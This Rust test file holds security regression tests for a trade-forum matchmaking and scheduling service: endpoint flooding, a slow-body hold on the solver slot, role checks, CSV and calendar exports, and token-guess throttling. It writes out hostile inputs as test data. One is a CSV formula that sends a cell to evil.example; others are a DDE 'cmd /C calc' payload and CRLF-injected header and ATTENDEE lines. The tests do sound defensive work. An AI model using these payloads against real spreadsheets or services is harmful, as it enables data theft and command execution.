//! What a review of the running service found, tried as a hostile firm would: each test
//! here failed before its fix.

use crate::helpers::{
    assert_invalid, assert_problem, coffee_roaster, forum, forum_with_participants, problem_fields,
    spawn_app, spawn_guarded_app, FORUM, ORGANIZER,
};
use reqwest::Method;
use serde_json::{json, Value};

/// A solver problem that keeps the solver busy for its whole time limit.
fn big_problem(time_limit_ms: u64) -> Value {
    let participants: Vec<Value> = (0..120).map(|i| json!({"id": format!("p{i}")})).collect();
    let meetings: Vec<Value> = (0..120)
        .flat_map(|i| (1..8).map(move |d| (i, (i + d * 7) % 120)))
        .filter(|(a, b)| a != b)
        .map(|(a, b)| json!({"a": format!("p{a}"), "b": format!("p{b}"), "value": 1.0 + (a % 3) as f64}))
        .collect();
    json!({
        "sessions": [{"name": "pagi", "slots": 12}], "tables": 20,
        "participants": participants, "meetings": meetings,
        "objective": "min_idle", "time_limit_ms": time_limit_ms
    })
}

#[actix_web::test]
async fn an_organizers_timetable_goes_through_while_firms_hammer_the_heavy_endpoints() {
    let app = spawn_app().await;
    let ids = forum_with_participants(&app).await;
    let firm_tokens = [
        app.reissue_token(&ids[5]).await,
        app.reissue_token(&ids[6]).await,
    ];
    let problem = big_problem(3000);
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let mut hammers = Vec::new();
    for token in firm_tokens {
        let (client, url, problem, stop) = (
            app.anonymous.clone(),
            app.address.clone(),
            problem.clone(),
            stop.clone(),
        );
        hammers.push(actix_web::rt::spawn(async move {
            let mut statuses = Vec::new();
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                for (path, body) in [
                    ("/v1/schedule/solve", problem.clone()),
                    ("/v1/match/batch", json!({"limit": 5})),
                    (
                        "/v1/scoring/evaluate",
                        json!({"labels": [{"a": "x", "b": "y", "grade": 1}]}),
                    ),
                ] {
                    let status = client
                        .post(format!("{url}{path}"))
                        .bearer_auth(&token)
                        .json(&body)
                        .send()
                        .await
                        .unwrap()
                        .status()
                        .as_u16();
                    statuses.push(status);
                }
            }
            statuses
        }));
    }
    // Let the firms start first.
    actix_web::rt::time::sleep(std::time::Duration::from_millis(300)).await;
    for _ in 0..2 {
        app.generate_timetable(json!({"time_limit_ms": 300})).await;
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    for hammer in hammers {
        let statuses = hammer.await.unwrap();
        assert!(!statuses.is_empty());
        assert!(statuses.iter().all(|&s| s == 403), "{statuses:?}");
    }
}

#[actix_web::test]
async fn the_heavy_slot_is_taken_before_the_body_is_read_and_a_busy_slot_is_503() {
    use std::io::Write;
    let app = spawn_app().await;
    // An organizer's solve whose body has not arrived yet holds the slot. (Had it come
    // while another job ran, it would have been answered 503 at once: then try again.)
    let host = app.address.trim_start_matches("http://").to_string();
    let open_slow = || {
        let mut slow = std::net::TcpStream::connect(&host).unwrap();
        write!(
            slow,
            "POST /v1/schedule/solve HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {}\r\n\
             Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{{\"sessions\": ",
            ORGANIZER
        )
        .unwrap();
        slow.flush().unwrap();
        slow
    };
    let small = json!({"sessions": [{"name": "pagi", "slots": 2}], "tables": 1,
                       "participants": [{"id": "a"}, {"id": "b"}],
                       "meetings": [{"a": "a", "b": "b"}], "time_limit_ms": 100});
    let mut slow = open_slow();
    let mut busy = None;
    for _ in 0..100 {
        actix_web::rt::time::sleep(std::time::Duration::from_millis(200)).await;
        let answer = app
            .call(Method::POST, "/v1/schedule/solve", Some(&small))
            .await;
        if answer.status() == 503 {
            busy = Some(answer);
            break;
        }
        // Not yet in, or answered 503 itself while the probe ran: then open it again.
        slow.set_nonblocking(true).unwrap();
        let mut byte = [0u8; 1];
        if !matches!(
            std::io::Read::read(&mut slow, &mut byte),
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock
        ) {
            slow = open_slow();
        }
    }
    let busy = busy.expect("the slot is held while the first body is still being read");
    assert!(busy.headers().contains_key("retry-after"));
    assert_problem(busy, 503, "unavailable").await;
    // The slow client gives up: the slot comes back.
    drop(slow);
    let mut status = 0;
    for _ in 0..500 {
        status = app
            .call(Method::POST, "/v1/schedule/solve", Some(&small))
            .await
            .status()
            .as_u16();
        if status == 200 {
            break;
        }
        actix_web::rt::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(status, 200);
}

#[actix_web::test]
async fn only_organizers_make_a_host_and_forum_data_is_for_its_members() {
    let app = spawn_app().await;
    let ids = forum_with_participants(&app).await;
    let (outsider, outsider_token) = app.register_firm(&coffee_roaster()).await;
    let outsider = outsider["id"].as_str().unwrap().to_string();
    let member_token = app.reissue_token(&ids[0]).await;
    let participants = format!("{FORUM}/participants");

    // A firm cannot make itself a host; the organizers can.
    let hosting = json!({"firm_id": outsider, "host": true});
    assert_problem(
        app.call_as(&outsider_token, Method::POST, &participants, Some(&hosting))
            .await,
        403,
        "forbidden",
    )
    .await;
    let ordinary = json!({"firm_id": ids[0], "max_meetings": 6});
    assert_eq!(
        app.call_as(&member_token, Method::POST, &participants, Some(&ordinary))
            .await
            .status(),
        201
    );
    let own_host = json!({"firm_id": ids[0], "host": true});
    assert_problem(
        app.call_as(&member_token, Method::POST, &participants, Some(&own_host))
            .await,
        403,
        "forbidden",
    )
    .await;

    app.generate_timetable(json!({"time_limit_ms": 300})).await;
    // A firm outside the forum sees neither its participants nor its timetable's stats.
    for path in [participants.clone(), format!("{FORUM}/schedule")] {
        assert_problem(
            app.call_as(&outsider_token, Method::GET, &path, None).await,
            403,
            "forbidden",
        )
        .await;
        assert_eq!(
            app.call_as(&member_token, Method::GET, &path, None)
                .await
                .status(),
            200,
            "{path}"
        );
        assert_eq!(app.call(Method::GET, &path, None).await.status(), 200);
    }
    // The forum tells each firm whether it is registered, so a console need not ask for a
    // roster it may not see; organizers get no such field.
    let registered = |events: Value| {
        events
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["id"] == FORUM.trim_start_matches("/v1/events/"))
            .map(|e| e["registered"].clone())
            .unwrap()
    };
    let seen = |token: Option<&str>| {
        let app = &app;
        let token = token.map(str::to_string);
        async move {
            let response = match token {
                Some(t) => app.call_as(&t, Method::GET, "/v1/events", None).await,
                None => app.call(Method::GET, "/v1/events", None).await,
            };
            registered(response.json::<Value>().await.unwrap())
        }
    };
    assert_eq!(seen(Some(&outsider_token)).await, false);
    assert_eq!(seen(Some(&member_token)).await, true);
    assert_eq!(seen(None).await, Value::Null);
    let one: Value = app
        .call_as(&member_token, Method::GET, FORUM, None)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(one["registered"], true);
    // Organizers may still make a firm a host.
    let host = json!({"firm_id": outsider, "host": true});
    let registered = app.call(Method::POST, &participants, Some(&host)).await;
    assert_eq!(registered.status(), 201);
    assert_eq!(registered.json::<Value>().await.unwrap()["host"], true);
}

#[actix_web::test]
async fn a_request_is_answered_once() {
    let app = spawn_app().await;
    let ids = forum_with_participants(&app).await;
    let path = format!("{FORUM}/requests");
    let request: Value = app
        .call(
            Method::POST,
            &path,
            Some(&json!({"from": ids[4], "to": ids[5]})),
        )
        .await
        .json()
        .await
        .unwrap();
    let id = request["id"].as_str().unwrap();
    let token = app.reissue_token(&ids[5]).await;
    let answer = |a: &'static str| format!("{path}/{id}/{a}");
    assert_eq!(
        app.call_as(&token, Method::POST, &answer("accept"), None)
            .await
            .status(),
        200
    );
    for again in ["decline", "accept"] {
        assert_problem(
            app.call_as(&token, Method::POST, &answer(again), None)
                .await,
            409,
            "conflict",
        )
        .await;
        assert_problem(
            app.call(Method::POST, &answer(again), None).await,
            409,
            "conflict",
        )
        .await;
    }
    let stored: Vec<Value> = app.get_json(&path).await;
    let stored = stored.iter().find(|r| r["id"] == id).unwrap();
    assert_eq!(stored["status"], "accepted");
    // The same pair cannot ask twice while a request is open or accepted.
    assert_problem(
        app.call(
            Method::POST,
            &path,
            Some(&json!({"from": ids[4], "to": ids[5]})),
        )
        .await,
        409,
        "conflict",
    )
    .await;
}

#[actix_web::test]
async fn a_firm_cannot_overwrite_an_outcome_unseen_nor_the_other_sides_interest() {
    let app = spawn_app().await;
    forum_with_participants(&app).await;
    let plan = app.generate_timetable(json!({"time_limit_ms": 300})).await;
    let meeting = &plan["meetings"][0];
    let (a, b) = (
        meeting["a"].as_str().unwrap(),
        meeting["b"].as_str().unwrap(),
    );
    let (token_a, token_b) = (app.reissue_token(a).await, app.reissue_token(b).await);
    let path = format!(
        "{FORUM}/meetings/{}/outcome",
        meeting["id"].as_str().unwrap()
    );
    let deal = json!({"status": "held", "interest_a": "high", "deals": [{"product": "kopi", "value_idr": 10_000_000_000_000i64, "direction": "ntb_to_jatim"}]});

    // Without `version`, a firm's write is refused, naming the field.
    let problem =
        assert_invalid(app.call_as(&token_a, Method::PUT, &path, Some(&deal)).await).await;
    assert!(
        problem_fields(&problem).iter().any(|(f, _)| f == "version"),
        "{problem}"
    );
    let mut first = deal.clone();
    first["version"] = json!(0);
    let stored: Value = app
        .call_as(&token_a, Method::PUT, &path, Some(&first))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(stored["version"], 1);
    assert_eq!(stored["interest_a"], "high");

    // Firm B: not A's interest, not a stale version; its own interest keeps A's.
    let overwrite =
        json!({"status": "no_show", "no_show": "a", "interest_a": "none", "version": 1});
    let problem = assert_invalid(
        app.call_as(&token_b, Method::PUT, &path, Some(&overwrite))
            .await,
    )
    .await;
    assert!(
        problem_fields(&problem)
            .iter()
            .any(|(f, _)| f == "interest_a"),
        "{problem}"
    );
    let stale = json!({"status": "cancelled", "version": 0});
    assert_problem(
        app.call_as(&token_b, Method::PUT, &path, Some(&stale))
            .await,
        409,
        "conflict",
    )
    .await;
    let own = json!({"status": "held", "interest_b": "low", "deals": first["deals"], "version": 1});
    let stored: Value = app
        .call_as(&token_b, Method::PUT, &path, Some(&own))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(
        (stored["interest_a"].as_str(), stored["interest_b"].as_str()),
        (Some("high"), Some("low"))
    );

    // An organizer locks it: the firms can no longer change it; the organizer can.
    let firm_lock = json!({"status": "held", "version": 2, "locked": true});
    assert_invalid(
        app.call_as(&token_a, Method::PUT, &path, Some(&firm_lock))
            .await,
    )
    .await;
    let mut lock = own.clone();
    lock["version"] = json!(2);
    lock["interest_a"] = json!("high");
    lock["locked"] = json!(true);
    let locked: Value = app
        .call(Method::PUT, &path, Some(&lock))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(locked["locked"], true);
    assert_problem(
        app.call_as(
            &token_b,
            Method::PUT,
            &path,
            Some(&json!({"status": "cancelled", "version": 3})),
        )
        .await,
        409,
        "conflict",
    )
    .await;
    let kept: Value = app.get_json(&path).await;
    assert_eq!(kept["status"], "held");
    assert_eq!(kept["deals"].as_array().unwrap().len(), 1);
}

/// Every cell of a CSV answer; none may start like a formula.
async fn assert_no_formula_cells(response: reqwest::Response, what: &str) -> Vec<Vec<String>> {
    assert_eq!(response.status(), 200, "{what}");
    let text = response.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{what}: {cell:?}"
        );
    }
    rows
}

#[actix_web::test]
async fn hostile_names_reach_no_csv_as_a_formula_and_every_ics_parses_back() {
    let app = spawn_app().await;
    let ids = forum_with_participants(&app).await;
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
        "+62 812 CV Plus",
        "-1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
    ];
    for (i, id) in ids.iter().enumerate() {
        let name = format!("{} {i}", hostile[i % hostile.len()]);
        let patched = app.patch_firm(id, &json!({"name": name})).await;
        assert_eq!(patched.status(), 200, "{name}");
    }
    let plan = app.generate_timetable(json!({"time_limit_ms": 300})).await;
    assert!(!plan["meetings"].as_array().unwrap().is_empty());

    // The organizer's firm export, which the import reads back to the same names.
    let export = app
        .as_token(Method::GET, "/v1/firms/export?format=csv", Some(ORGANIZER))
        .send()
        .await
        .unwrap();
    let rows = assert_no_formula_cells(export, "firm export").await;
    assert!(rows.iter().flatten().any(|c| c.starts_with("'=HYPERLINK")));
    let grid = app
        .call(Method::GET, &format!("{FORUM}/schedule/grid"), None)
        .await;
    let rows = assert_no_formula_cells(grid, "grid").await;
    assert!(rows
        .iter()
        .flatten()
        .any(|c| c.starts_with('\'') && c.contains(" × ")));
    for id in &ids {
        let agenda = app
            .call(
                Method::GET,
                &format!("{FORUM}/agenda/{id}?format=csv"),
                None,
            )
            .await;
        assert_no_formula_cells(agenda, "agenda").await;
        let ics = app
            .call(
                Method::GET,
                &format!("{FORUM}/agenda/{id}?format=ics"),
                None,
            )
            .await
            .text()
            .await
            .unwrap();
        let calendar: icalendar::Calendar = ics.parse().expect("the .ics parses back");
        let entries = plan["meetings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|m| m["a"] == id.as_str() || m["b"] == id.as_str())
            .count();
        assert_eq!(calendar.events().count(), entries, "{ics}");
    }
    let report = app
        .call(Method::GET, &format!("{FORUM}/report?format=csv"), None)
        .await;
    assert_no_formula_cells(report, "report").await;
    let labels = app
        .call(Method::GET, &format!("{FORUM}/labels?format=csv"), None)
        .await;
    assert_no_formula_cells(labels, "labels").await;
}

#[actix_web::test]
async fn control_characters_are_refused_in_every_forum_text_and_message() {
    let app = spawn_app().await;
    let ids = forum_with_participants(&app).await;
    let mut base = forum();
    base["id"] = json!("temu-lain");
    let changed = |change: &dyn Fn(&mut Value)| {
        let mut body = base.clone();
        change(&mut body);
        body
    };
    let cases = [
        ("name", changed(&|f| f["name"] = json!("Temu\r\nX-EVIL:1"))),
        (
            "venue",
            changed(&|f| f["venue"] = json!("Mataram\nATTENDEE:mailto:a@b")),
        ),
        (
            "days[0].sessions[0].name",
            changed(&|f| f["days"][0]["sessions"][0]["name"] = json!("pagi\rX")),
        ),
        (
            "table_names[1]",
            changed(&|f| f["table_names"] = json!(["Meja 1", "Meja\t2", "Meja 3"])),
        ),
    ];
    for (field, body) in cases {
        let problem = assert_invalid(app.call(Method::POST, "/v1/events", Some(&body)).await).await;
        assert!(
            problem_fields(&problem).iter().any(|(f, _)| f == field),
            "{field}: {problem}"
        );
    }
    let problem = assert_invalid(
        app.call(
            Method::POST,
            &format!("{FORUM}/requests"),
            Some(&json!({"from": ids[6], "to": ids[7], "message": "halo\r\nATTENDEE:mailto:x@y"})),
        )
        .await,
    )
    .await;
    assert!(
        problem_fields(&problem).iter().any(|(f, _)| f == "message"),
        "{problem}"
    );
    let problem = assert_invalid(
        app.patch_firm(&ids[0], &json!({"name": "CV Kopi\r\nX-EVIL:1"}))
            .await,
    )
    .await;
    assert!(
        problem_fields(&problem).iter().any(|(f, _)| f == "name"),
        "{problem}"
    );
}

#[actix_web::test]
async fn printed_pages_forbid_scripts_and_sniffing() {
    let app = spawn_app().await;
    forum_with_participants(&app).await;
    app.generate_timetable(json!({"time_limit_ms": 300})).await;
    for path in [
        format!("{FORUM}/schedule/grid?format=html"),
        format!("{FORUM}/report?format=html"),
    ] {
        let page = app.call(Method::GET, &path, None).await;
        assert_eq!(page.status(), 200, "{path}");
        let csp = page.headers()["content-security-policy"].to_str().unwrap();
        assert!(csp.contains("default-src 'none'"), "{path}: {csp}");
        assert_eq!(
            page.headers()["x-content-type-options"],
            "nosniff",
            "{path}"
        );
    }
}

#[actix_web::test]
async fn unknown_fields_in_a_write_are_named_with_a_near_name_and_reads_stay_lenient() {
    let app = spawn_app().await;
    let mut firm = coffee_roaster();
    firm["products"][0]["hs"] = json!("0901.21");
    firm["needs"][0]["requires"] = json!(["halal"]);
    let problem = assert_invalid(app.post_firm(&firm).await).await;
    let errors = problem["errors"].as_array().unwrap();
    let named = |field: &str| {
        errors
            .iter()
            .find(|e| e["field"] == field)
            .unwrap_or_else(|| panic!("{field} in {problem}"))
            .clone()
    };
    let hs = named("products[0].hs");
    assert_eq!(hs["code"], "unknown_field");
    assert_eq!(hs["params"]["hint"], "hs_code");
    assert_eq!(
        named("needs[0].requires")["params"]["hint"],
        "required_certifications"
    );
    // Nothing was stored.
    assert_eq!(app.all_ids("", 50).await.len(), 0);

    let created = app.create_firm(&coffee_roaster()).await;
    let id = created["id"].as_str().unwrap();
    let problem = assert_invalid(app.patch_firm(id, &json!({"employes": 12})).await).await;
    assert_eq!(problem["errors"][0]["field"], "employes");
    assert_eq!(problem["errors"][0]["params"]["hint"], "employees");
    let mut listed = coffee_roaster();
    listed["id"] = json!("kopi-lain");
    listed["produk"] = json!([]);
    let problem = assert_invalid(
        app.import("application/json", json!([listed]).to_string(), "")
            .await,
    )
    .await;
    assert!(
        problem_fields(&problem)
            .iter()
            .any(|(f, _)| f == "[0].produk"),
        "{problem}"
    );

    let mut event = forum();
    event["venu"] = json!("Mataram");
    let problem = assert_invalid(app.call(Method::POST, "/v1/events", Some(&event)).await).await;
    assert_eq!(problem["errors"][0]["params"]["hint"], "venue", "{problem}");
    app.create_forum().await;
    let problem = assert_invalid(
        app.call(
            Method::POST,
            &format!("{FORUM}/participants"),
            Some(&json!([{"firm_id": id, "max_meeting": 3}])),
        )
        .await,
    )
    .await;
    assert_eq!(
        problem["errors"][0]["field"], "[0].max_meeting",
        "{problem}"
    );
    assert_eq!(
        problem["errors"][0]["params"]["hint"], "max_meetings",
        "{problem}"
    );
    // Reads stay lenient: an unknown query parameter is no error.
    assert_eq!(app.list_firms("?unknown=1").await.status(), 200);
}

#[actix_web::test]
async fn an_address_that_keeps_guessing_tokens_is_slowed_down_and_valid_tokens_are_not() {
    let app = spawn_guarded_app().await;
    let (_, firm_token) = app.register_firm(&coffee_roaster()).await;
    let mut waits = Vec::new();
    for i in 0..9 {
        let started = std::time::Instant::now();
        let answer = app
            .as_token(Method::GET, "/v1/me", Some(&format!("mitra_firm_guess{i}")))
            .send()
            .await
            .unwrap();
        assert_eq!(answer.status(), 401);
        waits.push(started.elapsed());
    }
    assert!(waits[..5].iter().all(|w| w.as_millis() < 100), "{waits:?}");
    assert!(
        waits[8].as_millis() >= 400,
        "the ninth guess waits: {waits:?}"
    );
    for token in [ORGANIZER, firm_token.as_str()] {
        let started = std::time::Instant::now();
        let answer = app
            .as_token(Method::GET, "/v1/me", Some(token))
            .send()
            .await
            .unwrap();
        assert_eq!(answer.status(), 200);
        assert!(started.elapsed().as_millis() < 1000);
    }
}

#[actix_web::test]
async fn an_organizer_backs_up_every_tree_while_the_server_runs_and_it_restores_whole() {
    let app = spawn_app().await;
    let ids = forum_with_participants(&app).await;
    let config: Value = app.get_json("/v1/scoring/config").await;
    let changed = config["config"].clone();
    let put = app
        .call(Method::PUT, "/v1/scoring/config", Some(&changed))
        .await;
    assert_eq!(put.status(), 200, "{:?}", put.text().await);
    let token = app.reissue_token(&ids[0]).await;
    assert_problem(
        app.call_as(&token, Method::GET, "/v1/backup", None).await,
        403,
        "forbidden",
    )
    .await;
    let backup = app.call(Method::GET, "/v1/backup", None).await;
    assert_eq!(backup.status(), 200);
    assert!(backup.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("application/x-ndjson"));
    let text = backup.text().await.unwrap();
    let kinds: Vec<String> = text
        .lines()
        .skip(1)
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["kind"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    for kind in ["firm", "firm_token", "forum", "setting"] {
        assert!(kinds.iter().any(|k| k == kind), "{kind} in the backup");
    }
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("backup.jsonl");
    std::fs::write(&file, &text).unwrap();
    let restored = dir.path().join("restored");
    mitra::app::backup::restore_into(&restored, &file).unwrap();
    let store = mitra::store::Store::open(&restored).unwrap();
    assert_eq!(store.count_firms(), ids.len());
    let setting: Value = store
        .setting(mitra::app::scoring::SCORING_SETTING)
        .unwrap()
        .unwrap();
    assert_eq!(setting["version"], put_version(&config));
}

fn put_version(before: &Value) -> u64 {
    before["version"].as_u64().unwrap() + 1
}
